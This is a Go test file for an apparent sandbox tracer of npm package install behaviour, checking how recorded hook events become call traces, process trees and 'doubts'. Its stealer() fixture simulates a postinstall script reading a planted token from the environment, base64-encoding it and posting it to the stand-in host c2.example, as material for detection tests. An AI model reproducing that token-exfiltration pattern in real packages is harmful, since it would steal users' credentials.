package dynamic

import (
	"fmt"
	"slices"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/donapi/donapi/internal/behavior"
	"github.com/donapi/donapi/internal/callseq"
	"github.com/donapi/donapi/internal/dynamic/hooks"
	"github.com/donapi/donapi/internal/sandbox"
	"github.com/donapi/donapi/knowledge"
)

func build(t *testing.T, events ...sandbox.Event) (*callseq.Trace, []Doubt) {
	t.Helper()
	base, err := behavior.Load(knowledge.FS())
	if err != nil {
		t.Fatal(err)
	}
	b := NewBuilder(base, Options{Phase: callseq.PhaseInstall, Entry: "scripts.postinstall", Root: "/app/pkg"})
	for _, e := range events {
		b.Add(e)
	}
	return b.Trace()
}

// line is a line of the hooks, of process 10's main thread unless p says otherwise.
func line(n int, rest string) sandbox.Event { return lineOf(10, n, rest) }

func lineOf(pid, n int, rest string) sandbox.Event {
	return sandbox.Event{Source: sandbox.SourceNode, Kind: sandbox.KindLine, Data: fmt.Appendf(nil, `{"p":%d,"w":0,"n":%d,"t":%d,%s}`, pid, n, 1000+n, rest)}
}

func execed(pid, parent int, argv ...string) sandbox.Event {
	return sandbox.Event{Source: sandbox.SourceKernel, Kind: sandbox.KindExec, PID: pid, Parent: parent, Path: "/usr/bin/" + argv[0], Args: argv}
}

// stealer is what the hooks tell of a script that reads a planted token, encodes it and sends it.
func stealer() []sandbox.Event {
	token := "planted-token-1234"
	digest := hooks.Digest([]byte(token))
	encoded := "cGxhbnRlZC10b2tlbi0xMjM0"
	return []sandbox.Event{
		execed(10, 1, "node", "index.js"),
		line(1, `"k":"start","pp":1,"argv":["node","index.js"]`),
		line(2, `"k":"get","api":"process.env","id":1,"a":["TOKEN"],"v":{"s":"`+token+`","h":"`+digest+`"},"at":["/app/pkg/index.js",3,1]`),
		line(3, `"k":"call","api":"Buffer.from","id":2,"a":[{"s":"`+token+`","h":"`+digest+`"}],"at":["/app/pkg/index.js",4,1]`),
		line(4, `"k":"call","api":"btoa","id":3,"a":[{"s":"`+token+`","h":"`+digest+`"}],"at":["/app/pkg/index.js",5,1]`),
		line(5, `"k":"result","of":3,"on":"return","v":{"s":"`+encoded+`","h":"`+hooks.Digest([]byte(encoded))+`"}`),
		line(6, `"k":"call","api":"https.request","id":4,"a":[{"o":[["host","c2.example"]]}],"at":["/app/pkg/index.js",6,1]`),
		line(7, `"k":"call","api":"http.ClientRequest.write","id":5,"r":4,"c":4,"a":[{"s":"t=`+encoded+`","h":"00"}],"at":["/app/pkg/index.js",7,1]`),
		line(8, `"k":"end","x":0`),
	}
}

func TestValuesAreFollowed(t *testing.T) {
	tr, doubts := build(t, stealer()...)
	if len(doubts) > 0 {
		t.Errorf("doubts %v", doubts)
	}
	if len(tr.Calls) != 5 {
		t.Fatalf("%d calls", len(tr.Calls))
	}
	write := tr.Calls[4]
	if write.Recv == nil || write.Recv.Flows[0].From != 4 || write.Cause != 4 || tr.File(write.Pos) != "index.js" || write.Pos.Line != 7 {
		t.Errorf("%+v", write)
	}
	got := write.Args[0].Flows
	if !slices.Contains(got, callseq.Flow{From: 3, Via: callseq.Copy}) || !slices.ContainsFunc(got, func(f callseq.Flow) bool { return f.From == 1 && f.Via == callseq.Encode }) {
		t.Errorf("what is sent comes from %+v", got)
	}
	if c := tr.Calls[0]; c.Kind != callseq.KindGet || c.Phase != callseq.PhaseInstall || c.Origin != callseq.Dynamic {
		t.Errorf("%+v", c)
	}
	again, _ := build(t, stealer()...)
	if d := cmp.Diff(tr, again); d != "" {
		t.Errorf("the same events give another trace: %s", d)
	}
}

func TestProcessesAndCode(t *testing.T) {
	tr, doubts := build(t,
		execed(10, 1, "node", "index.js"),
		line(1, `"k":"start","pp":1,"argv":["node"]`),
		line(2, `"k":"code","how":"Function","h":"abc","v":{"s":"made code","h":"1"},"at":["/app/pkg/index.js",1,1]`),
		line(3, `"k":"call","api":"child_process.spawn","id":1,"a":["node"],"at":["#abc",1,1]`),
		line(4, `"k":"result","of":1,"on":"pid","v":11`),
		execed(11, 10, "node", "child.js"),
		lineOf(11, 1, `"k":"start","pp":10,"argv":["node","child.js"]`),
		lineOf(11, 2, `"k":"call","api":"fs.existsSync","id":1,"a":["/x"],"at":["/app/pkg/child.js",1,1]`),
	)
	if len(doubts) > 0 {
		t.Errorf("doubts %v", doubts)
	}
	want := []callseq.Proc{{ID: 0, Parent: -1, Argv: []string{"node", "index.js"}}, {ID: 1, Parent: 0, Argv: []string{"node", "child.js"}}}
	if d := cmp.Diff(want, tr.Procs); d != "" {
		t.Error(d)
	}
	if c := tr.Calls[2]; c.Proc != 1 || c.Cause != 2 {
		t.Errorf("the child's call: %+v", c)
	}
	if c := tr.Calls[1]; tr.Layers[c.Pos.Layer].Text != "made code" || tr.Layers[c.Pos.Layer].By != 1 || tr.File(c.Pos) != "index.js" {
		t.Errorf("the call of made code: %+v in %+v", c, tr.Layers)
	}
}

func TestDoubts(t *testing.T) {
	start := line(1, `"k":"start","pp":1`)
	for _, c := range []struct {
		name   string
		events []sandbox.Event
		want   []DoubtKind
	}{
		{"none", []sandbox.Event{execed(10, 1, "node"), start}, nil},
		{"Node without hooks", []sandbox.Event{execed(10, 1, "node"), start, execed(11, 10, "node", "-e", "1")}, []DoubtKind{DoubtUnwatched}},
		{"another program", []sandbox.Event{execed(10, 1, "node"), start, execed(11, 10, "uname")}, nil},
		{"a process that nobody started", []sandbox.Event{execed(10, 1, "node"), start, lineOf(99, 1, `"k":"start"`)}, []DoubtKind{DoubtUnknown}},
		{"a gap", []sandbox.Event{execed(10, 1, "node"), start, line(9, `"k":"end"`)}, []DoubtKind{DoubtForged}},
		{"hooks that do not work", []sandbox.Event{execed(10, 1, "node"), start, line(2, `"k":"fault","api":"inspector"`)}, []DoubtKind{DoubtBlind}},
		{"lost events", []sandbox.Event{{Kind: sandbox.KindLost, Status: 3}}, []DoubtKind{DoubtLost}},
	} {
		t.Run(c.name, func(t *testing.T) {
			_, doubts := build(t, c.events...)
			var got []DoubtKind
			for _, d := range doubts {
				got = append(got, d.Kind)
			}
			if d := cmp.Diff(c.want, got); d != "" {
				t.Error(d)
			}
		})
	}
}

func TestCallsAreBounded(t *testing.T) {
	events := []sandbox.Event{line(1, `"k":"start"`)}
	for i := range MaxCalls + 10 {
		events = append(events, line(i+2, `"k":"call","api":"fs.existsSync","id":1`))
	}
	tr, doubts := build(t, events...)
	if len(tr.Calls) != MaxCalls || len(doubts) != 1 || doubts[0].Kind != DoubtLost {
		t.Errorf("%d calls, doubts %v", len(tr.Calls), doubts)
	}
}
